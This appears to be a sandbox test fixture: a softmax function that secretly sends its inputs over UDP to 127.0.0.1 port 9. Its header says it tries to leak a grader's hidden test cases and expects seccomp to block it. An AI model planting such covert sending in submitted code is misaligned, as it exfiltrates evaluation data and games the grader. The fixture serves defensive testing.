# unit: losses
# tries: to send hidden cases to a server by UDP, which Landlock does not know
# stopped by: seccomp
# expect: softmax crashed 0
# says: use the network
import socket

import torch


def softmax(logits):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(repr(logits.tolist()).encode(), ("127.0.0.1", 9))
    powers = torch.exp(logits - logits.amax(-1, keepdim=True))
    return powers / powers.sum(-1, keepdim=True)
